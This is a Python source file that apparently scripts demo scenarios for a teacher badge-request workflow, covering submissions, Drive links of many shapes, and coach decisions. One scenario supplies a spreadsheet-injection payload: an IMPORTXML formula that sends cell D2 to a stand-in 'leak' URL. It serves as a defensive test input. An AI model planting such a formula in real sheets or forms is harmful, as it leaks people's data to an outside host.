"""What becomes of each request in the demo: who does what, on which day. Data, but for the small acts of teachers."""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from bridge.demo.people import People
from bridge.sandbox.seed import CONSENT, SHOW_EVIDENCE, SHOW_NAME
from bridge.sandbox.seed_evidence import evidence_files
from bridge.sandbox.seed_people import SCHOOLS
from bridge.sandbox.state import Person

Answers = dict[str, Any]


@dataclass
class Part:
    """One teacher's part in the story, as it goes."""

    number: int  # of the part, from 0
    teacher: Person
    people: People
    badge: str
    email: str
    response_id: str = ""
    kept: dict[str, str] = field(default_factory=dict)  # file ids to come back to

    def drive_link(self, kind: int, *, shared: bool = True) -> str:
        return self.people.own(self.teacher.email, evidence_files()[kind], shared=shared)


@dataclass(frozen=True, slots=True)
class Plot:
    title: str  # what the teacher did, for the table at the end
    answers: Callable[[Part], Answers]
    coach: tuple[tuple[str, str] | None, ...] = (("Approve", ""),)  # (decision, feedback) on days 2, 3, 4 …
    teacher: tuple[Callable[[Part], None] | None, ...] = ()  # on the mornings of days 2, 3, 4 …
    before_coach: bool = True  # whether the teacher's acts come before the coach's on the same day


REFLECTIONS = (
    "Students now tell me what they are stuck on before I ask. Exit tickets went from a grade to a plan for tomorrow.",
    "Groups talk about the mathematics instead of about who writes. I gave each role a question of its own.",
    "I comment on one thing at a time, and every student revises. Two of three drafts are better the next day.",
    "We read aloud with three planned stops. The quiet ones speak at the second one.",
    "The question came from them: why is our creek brown? They measured for three weeks.",
    "All my slides have headings and alternative text now; captions took me ten minutes per video.",
)


def plain(part: Part, **more: Any) -> Answers:
    """A tidy answer: an upload, a shared link, consent."""
    file = evidence_files()[part.number % 5]
    upload = {"name": file.name, "mime": file.mime, "base64": base64.b64encode(file.data).decode()}
    shown = ([], [SHOW_NAME], [SHOW_NAME, SHOW_EVIDENCE])[part.number % 3]
    answers = {
        "name": part.teacher.name,
        "school": SCHOOLS[part.number % len(SCHOOLS)],
        "badge": part.badge,
        "links": part.drive_link(5 + part.number % 2),
        "files": {"files": [upload]},
        "reflection": REFLECTIONS[part.number % len(REFLECTIONS)],
        "consent": CONSENT,
        "show": shown,
    }
    return answers | more


#: Links to files on Drive as browsers, phones and menus give them; {} is the file's id.
SHAPES = (
    "https://drive.google.com/file/d/{}/view?usp=sharing",
    "(https://drive.google.com/file/u/0/d/{}/preview).",
    "the whiteboard: https://drive.google.com/open?id={}&usp=drive_copy",
    "https://drive.google.com/uc?id={}&export=download",
    "https://drive.google.com/thumbnail?id={}&sz=w1000",
    "https://drive.usercontent.google.com/download?id={}&export=download",
    "https://lh3.googleusercontent.com/d/{}",
    "my notes <https://docs.google.com/document/u/0/d/{}/edit?usp=sharing#heading=h.1>",
)
#: What is no file of their own: published and shortened pages, a form, a site, and no address at all.
OTHERS = """\
https://docs.google.com/document/d/e/2PACX-1vQm3example/pub
https://docs.google.com/forms/d/e/1FAIpQLSexample/viewform
https://sites.google.com/district.example/room12, https://forms.gle/AbCdEf123
and see the binder on my desk"""


def links_of_every_form(part: Part) -> Answers:
    """Links as people paste them: of all shapes, with text around, and some that are none."""
    links = [shape.format(file_id(part.drive_link(number % 5))) for number, shape in enumerate(SHAPES)]
    folder = part.people.ask("POST", "drive/files", owner=part.teacher.email, name="Evidence", kind="folder")["id"]
    part.people.share(folder)
    links.append(f"https://drive.google.com/drive/u/1/folders/{folder}")
    return plain(part, links="\n".join([*links, OTHERS]))


def file_id(link: str) -> str:
    return link.split("/d/")[1].split("/")[0]


def unshared(part: Part) -> Answers:
    link = part.drive_link(0, shared=False)
    part.kept["file"] = file_id(link)
    return plain(part, links=link)


def trashed(part: Part) -> Answers:
    link = part.drive_link(3)
    part.people.trash(file_id(link))
    return plain(part, links=link)


def share_it(part: Part) -> None:
    part.people.share(part.kept["file"])


def add_words(part: Part) -> None:
    part.people.edit(part.response_id, {"reflection": "Now with the second unit: " + REFLECTIONS[1]})


def send_again(part: Part) -> None:
    part.people.edit(part.response_id, {"links": part.drive_link(5), "reflection": "With the photo you asked for."})


def ask_twice(part: Part) -> None:
    part.people.submit(part.email, plain(part, reflection="Did my first one arrive?"))


EMOJI = "They asked for more 🎉👩🏽‍🏫 and stayed after class 💪"
_RETURN = "Lovely start. Please add one piece of student work from after the change, then send it again."

#: The badge of this one is promised within a day.
LATE = "waits longer than was promised"

PLOTS: tuple[Plot, ...] = (
    Plot("asked in good order", plain),
    Plot("pasted links of every shape", links_of_every_form),
    Plot("forgot to share a file, then did", unshared, coach=(None, ("Approve", "")), teacher=(share_it,)),
    Plot("linked a file from the bin", trashed, coach=(("Decline", "The file was deleted; talk to me any time."),)),
    Plot("edited before the coach looked", plain, teacher=(add_words,), coach=(None, ("Approve", "Clear and honest."))),
    Plot(
        "edited after the coach had chosen",
        plain,
        teacher=(add_words,),
        before_coach=False,
        coach=(("Approve", ""), ("Approve", "Even better now.")),
    ),
    Plot("wrote a formula", lambda part: plain(part, reflection='=IMPORTXML("https://example.com/?leak="&D2,"//a")')),
    Plot("wrote with emoji", lambda part: plain(part, reflection=EMOJI)),
    Plot("has a name written from right to left", lambda part: plain(part, show=[SHOW_NAME])),
    Plot(
        "pasted a soft line break from Slides",
        lambda part: plain(part, name=part.teacher.name + "\u000bRoom 12", reflection="First\u000bthen second."),
    ),
    Plot("has an address in capitals", plain),
    Plot("asked twice", plain, teacher=(ask_twice,), coach=(None, ("Approve", "Yes, it arrived."))),
    Plot(
        "asked for a badge that is not in the catalogue",
        plain,
        coach=(("Approve", ""), ("Decline", "We do not offer it yet.")),
    ),
    Plot(
        "was returned, then sent it again",
        plain,
        coach=(("Return", _RETURN), None, ("Approve", "That is it!")),
        teacher=(None, send_again),
    ),
    Plot("was returned without words at first", plain, coach=(("Return", ""), ("Return", _RETURN))),
    Plot("was declined", plain, coach=(("Decline", "This one is for classroom teachers; see me about coaching."),)),
    Plot("was declined, then approved", plain, coach=(("Decline", "Wrong badge?"), ("Approve", "My mistake, sorry."))),
    Plot(
        "got a badge, then lost it",
        plain,
        coach=(("Approve", ""), None, ("Revoke", "The work was a colleague’s.")),
    ),
    Plot("is on hold", plain, coach=(("Hold", "Waiting for the principal."),)),
    Plot(LATE, plain, coach=()),
    Plot("waits for a coach", plain, coach=()),
)

#: Answers whose teacher must be a particular one: a name from right to left.
RIGHT_TO_LEFT = "has a name written from right to left"
CAPITALS = "has an address in capitals"
UNKNOWN_BADGE = "asked for a badge that is not in the catalogue"
EVERYDAY = Plot("asked in good order", plain)
